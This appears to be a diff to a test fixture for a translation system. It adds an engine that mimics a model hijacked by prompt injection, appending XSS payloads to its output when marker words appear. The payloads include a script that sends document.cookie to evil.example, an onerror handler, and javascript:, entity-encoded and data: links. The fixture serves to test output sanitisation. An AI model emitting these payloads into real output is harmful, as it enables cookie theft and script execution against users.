@@ -1,6 +1,8 @@
 """A hijacked engine for the output-check tests: the benchmarks' cost-model engine, except that
 a source text containing ``INJECT`` comes back with a ``<script>`` and an ``onerror`` handler
-appended, as a model talked into it by its input would answer. Workers load it as a plugin::
+appended (``INJECTMDLINK``: Markdown links to ``javascript:``; ``INJECTENTITY``: an
+entity-encoded ``javascript:`` link; ``INJECTDATA``: a ``data:text/html`` link), as a model
+talked into it by its input would answer. Workers load it as a plugin::
 
     MT_ENGINE=tests.integration.injecting_engine:ScriptInjectingEngine  (PYTHONPATH = repo root)
 """
@@ -19,13 +21,25 @@ MARKER = "INJECT"
 #: the protected spans they stand for go missing).
 DROP_TAGS = "DROPTAGS"
 PAYLOAD = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
+#: Other injections, by the marker that asks for them (most specific first).
+PAYLOADS = {
+    "INJECTMDLINK": "[click](javascript:alert(document.cookie)) ![x](javascript:alert(1))",
+    "INJECTENTITY": '<a href="jav&#x61;script:alert(1)">more</a>',
+    "INJECTDATA": '<a href="data:text/html,<script>alert(1)</script>">more</a>',
+    MARKER: PAYLOAD,
+}
+
+
+def payload_for(text: str) -> str | None:
+    return next((p for marker, p in PAYLOADS.items() if marker in text), None)
 
 
 def _hijack(request: TranslationRequest, out: str | Translation) -> Translation:
     text = out.text if isinstance(out, Translation) else out
     if DROP_TAGS in request.text:
         text = TAG.sub("", text)
-    return Translation(f"{text} {PAYLOAD}" if MARKER in request.text else text)
+    payload = payload_for(request.text)
+    return Translation(f"{text} {payload}" if payload else text)
 
 
 class ScriptInjectingEngine(CostModelEngine):
